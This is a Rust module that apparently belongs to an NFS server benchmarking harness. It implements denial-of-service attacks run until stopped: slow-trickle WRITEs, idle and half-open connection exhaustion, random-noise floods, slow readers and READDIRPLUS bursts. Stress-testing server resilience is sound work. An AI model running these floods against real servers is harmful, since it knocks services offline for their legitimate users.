//! The attacker: a process that does one thing to a server until it is ended, and says now and then how many
//! bytes it has moved.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result};
use nfs_wire::nfs3::{
    CreateArgs, CreateHow, CreateOk, DirOpArgs, FileHandle, Filename, Procedure, ReadArgs,
    ReaddirplusArgs, StableHow, WccData, WriteArgs, WriteOk,
};
use nfs_wire::record::FragmentHeader;

use super::kind::Attack;
use crate::baseline::load::{self, Amount, Load};
use crate::baseline::workload::Workload;
use crate::calls::{ask, connect, mode, mount, nfs_call};
use crate::servers::Place;

/// An attack on one server.
#[derive(Clone, Debug)]
pub struct Job {
    /// What is done to the server.
    pub attack: Attack,
    /// Address of the NFS program.
    pub nfs: SocketAddr,
    /// Address of the MOUNT program.
    pub mount: SocketAddr,
    /// Path of the export, as MOUNT takes it.
    pub export: String,
    /// The address of this machine that it comes from.
    pub from: Ipv4Addr,
    /// How many silent or half-open connections there may be.
    pub connections: usize,
}

impl Job {
    /// An attack on the server at `place`.
    pub fn on(place: &Place, attack: Attack, from: Ipv4Addr, connections: usize) -> Self {
        Self {
            attack,
            nfs: place.nfs,
            mount: place.mount,
            export: place.export.clone(),
            from,
            connections,
        }
    }
}

/// Connections of the attacks that trickle.
const TRICKLES: usize = 64;
/// Bytes that a slow WRITE sends every [`PAUSE`]: 140 KB/s.
const SENT_AT_ONCE: usize = 1400;
/// Bytes that a slow reader takes every [`PAUSE`]: 80 KB/s.
const TAKEN_AT_ONCE: usize = 800;
/// Between two steps of what is done slowly.
const PAUSE: Duration = Duration::from_millis(10);
/// Connections of noise.
const NOISES: usize = 8;
/// Bursts at a time, and calls of each.
const BURSTS: (usize, usize) = (40, 1024);
/// Connections of a stream, and calls in flight on each.
const STREAM: (usize, usize) = (16, 4);
/// Length of a READ or WRITE of a stream in bytes.
const PIECE_BYTES: u32 = 1 << 20;
/// Length of the file that streams and slow readers use, in pieces.
const PIECES: u64 = 64;
/// Connections that make names or stable WRITEs, and calls in flight on each.
const GREEDY_LOADS: (usize, usize) = (4, 128);
/// Before a connection that the server ended is made anew.
const BETWEEN_TRIES: Duration = Duration::from_millis(100);
/// Name of the file that streams and slow readers use.
const FILE_NAME: &[u8] = b"attacked-file";

/// Attacks until the process is ended. Prints the bytes moved so far, a line every second.
///
/// # Errors
/// The server cannot be mounted by an attacker that has to mount it, or a thread cannot be made.
pub fn run(job: &Job) -> Result<()> {
    let moved = Arc::new(AtomicU64::new(0));
    let target = Arc::new(Target::of(job, Arc::clone(&moved))?);
    let (threads, step): (usize, fn(&Target) -> Result<()>) = match job.attack {
        Attack::WriteHeads | Attack::WriteHeadsOfAStranger => (TRICKLES, write_slowly),
        Attack::IdleConnections | Attack::IdleConnectionsOfAStranger | Attack::HalfOpen => {
            (1, say_little)
        }
        Attack::Noise => (NOISES, send_noise),
        Attack::SlowReaders => (TRICKLES, read_slowly),
        Attack::Bursts => (BURSTS.0, burst),
        Attack::Names => (GREEDY_LOADS.0, make_names),
        Attack::StableWrites => (GREEDY_LOADS.0, write_stably),
        Attack::ReadStream => (STREAM.0, stream_reads),
        Attack::WriteStream => (STREAM.0, stream_writes),
    };
    for number in 0..threads {
        let target = Arc::clone(&target);
        thread::Builder::new()
            .stack_size(256 << 10)
            .name(format!("attack-{number}"))
            .spawn(move || {
                loop {
                    // What the server ends, or does not admit, is tried again.
                    if step(&target).is_err() {
                        // SLEEP: the attack's own pace.
                        thread::sleep(BETWEEN_TRIES);
                    }
                }
            })?;
    }
    loop {
        // SLEEP: the pace of the report.
        thread::sleep(Duration::from_secs(1));
        println!("{}", moved.load(Ordering::Relaxed));
    }
}

/// What the threads of an attack share.
struct Target {
    job: Job,
    root: Option<FileHandle>,
    file: Option<FileHandle>,
    moved: Arc<AtomicU64>,
}

impl Target {
    fn of(job: &Job, moved: Arc<AtomicU64>) -> Result<Self> {
        let mut target = Self {
            job: job.clone(),
            root: None,
            file: None,
            moved,
        };
        if matches!(
            job.attack,
            Attack::SlowReaders | Attack::Bursts | Attack::ReadStream | Attack::WriteStream
        ) {
            let root = mount(Some(job.from), job.mount, &job.export)?;
            target.file = Some(make_file(&mut target.connect()?, root)?);
            target.root = Some(root);
        }
        Ok(target)
    }

    fn connect(&self) -> Result<TcpStream> {
        connect(Some(self.job.from), self.job.nfs)
    }

    fn file(&self) -> Result<FileHandle> {
        self.file.context("this attack uses a file")
    }

    fn count(&self, bytes: usize) {
        self.moved.fetch_add(bytes as u64, Ordering::Relaxed);
    }

    /// A load of the baseline, for ever.
    fn load(&self, workload: Workload) -> Result<()> {
        let sample = load::run(&Load {
            workload,
            depth: GREEDY_LOADS.1,
            nfs: self.job.nfs,
            mount: self.job.mount,
            export: self.job.export.clone(),
            amount: Amount::For(Duration::from_secs(1)),
            handles: None,
            cpu: None,
            from: Some(self.job.from),
            busy_poll: Default::default(),
        })?;
        self.count(usize::try_from(sample.calls)?);
        Ok(())
    }
}

/// A file of [`PIECES`] pieces.
fn make_file(stream: &mut TcpStream, root: FileHandle) -> Result<FileHandle> {
    let create = CreateArgs {
        where_: DirOpArgs {
            dir: root,
            name: Filename(FILE_NAME),
        },
        how: CreateHow::Unchecked(mode(0o644)),
    };
    let made = ask::<CreateOk, WccData>(stream, Procedure::Create, &create)?;
    let file = made.obj.context("CREATE gave no handle")?;
    let data = vec![7; PIECE_BYTES as usize];
    for piece in 0..PIECES {
        let mut write = write_of(file, piece, &data);
        write.stable = StableHow::FileSync;
        ask::<WriteOk, WccData>(stream, Procedure::Write, &write)?;
    }
    Ok(file)
}

fn write_of(file: FileHandle, piece: u64, data: &[u8]) -> WriteArgs<'_> {
    WriteArgs {
        file,
        offset: piece % PIECES * u64::from(PIECE_BYTES),
        count: PIECE_BYTES,
        stable: StableHow::Unstable,
        data,
    }
}

fn read_of(file: FileHandle, piece: u64) -> Vec<u8> {
    let offset = piece % PIECES * u64::from(PIECE_BYTES);
    let arguments = ReadArgs {
        file,
        offset,
        count: PIECE_BYTES,
    };
    nfs_call(Procedure::Read, &arguments)
}

/// One connection that announces a large WRITE to a handle that is none, and sends it slowly.
fn write_slowly(target: &Target) -> Result<()> {
    let handle = FileHandle::new(&[0x5a; 40])?;
    let data = vec![0; 4 << 20];
    let arguments = WriteArgs {
        file: handle,
        offset: 0,
        count: 4 << 20,
        stable: StableHow::Unstable,
        data: &data,
    };
    let call = nfs_call(Procedure::Write, &arguments);
    let mut stream = target.connect()?;
    for piece in call.chunks(SENT_AT_ONCE) {
        stream.write_all(piece)?;
        target.count(piece.len());
        // SLEEP: the attack's own pace.
        thread::sleep(PAUSE);
    }
    Ok(())
}

/// Connections that say nothing, or half a mark; those that the server ends are made anew.
fn say_little(target: &Target) -> Result<()> {
    let said: &[u8] = match target.job.attack {
        Attack::HalfOpen => &[0x80, 0],
        _ => &[],
    };
    let mut held: Vec<TcpStream> = Vec::new();
    loop {
        held.retain(|stream| {
            let mut byte = [0; 1];
            // Only what would have to be waited for is open still.
            matches!((&*stream).read(&mut byte), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
        });
        for _ in 0..target.job.connections.saturating_sub(held.len()).min(500) {
            let Ok(mut stream) = target.connect() else {
                break;
            };
            stream.set_nonblocking(true)?;
            if stream.write_all(said).is_ok() {
                held.push(stream);
            }
        }
        target.moved.store(held.len() as u64, Ordering::Relaxed);
        // SLEEP: the attack's own pace.
        thread::sleep(BETWEEN_TRIES);
    }
}

/// One connection that sends what is no call until the server has had enough.
fn send_noise(target: &Target) -> Result<()> {
    let mut noise = vec![0; 64 << 10];
    let mut stream = target.connect()?;
    loop {
        fastrand::fill(&mut noise);
        stream.write_all(&noise)?;
        target.count(noise.len());
    }
}

/// One connection that has many READs in flight and takes their replies slowly.
fn read_slowly(target: &Target) -> Result<()> {
    let file = target.file()?;
    let mut stream = target.connect()?;
    for piece in 0..PIECES {
        stream.write_all(&read_of(file, piece))?;
    }
    let mut taken = [0; TAKEN_AT_ONCE];
    loop {
        let len = stream.read(&mut taken)?;
        if len == 0 {
            return Ok(());
        }
        target.count(len);
        // SLEEP: the attack's own pace.
        thread::sleep(PAUSE);
    }
}

/// One connection with very many READDIRPLUS, closed when they are sent.
fn burst(target: &Target) -> Result<()> {
    let dir = target.root.context("this attack uses a directory")?;
    let call = nfs_call(
        Procedure::Readdirplus,
        &ReaddirplusArgs {
            dir,
            cookie: 0,
            cookieverf: [0; 8],
            dircount: 64 << 10,
            maxcount: 1 << 20,
        },
    );
    let mut stream = target.connect()?;
    for _ in 0..BURSTS.1 {
        stream.write_all(&call)?;
        target.count(call.len());
    }
    Ok(())
}

fn make_names(target: &Target) -> Result<()> {
    target.load(Workload::CreateRemove)
}

fn write_stably(target: &Target) -> Result<()> {
    target.load(Workload::WriteFileSync)
}

/// One connection of a stream of READs.
fn stream_reads(target: &Target) -> Result<()> {
    let file = target.file()?;
    stream_calls(target, |piece| read_of(file, piece))
}

/// One connection of a stream of WRITEs.
fn stream_writes(target: &Target) -> Result<()> {
    let file = target.file()?;
    let data = vec![9; PIECE_BYTES as usize];
    stream_calls(target, |piece| {
        nfs_call(Procedure::Write, &write_of(file, piece, &data))
    })
}

/// Keeps a few calls in flight, the bytes of calls and replies counted.
fn stream_calls(target: &Target, call: impl Fn(u64) -> Vec<u8>) -> Result<()> {
    let mut stream = target.connect()?;
    let send = |stream: &mut TcpStream, piece| -> Result<()> {
        let call = call(piece);
        stream.write_all(&call)?;
        target.count(call.len());
        Ok(())
    };
    let mut next = 0;
    for _ in 0..STREAM.1 {
        send(&mut stream, next)?;
        next += 1;
    }
    let mut buffer = vec![0; 256 << 10];
    loop {
        let mut mark = [0; 4];
        stream.read_exact(&mut mark)?;
        let mut left = FragmentHeader::parse(mark).len as usize;
        target.count(left);
        while left > 0 {
            let place = left.min(buffer.len());
            stream.read_exact(&mut buffer[..place])?;
            left -= place;
        }
        send(&mut stream, next)?;
        next += 1;
    }
}
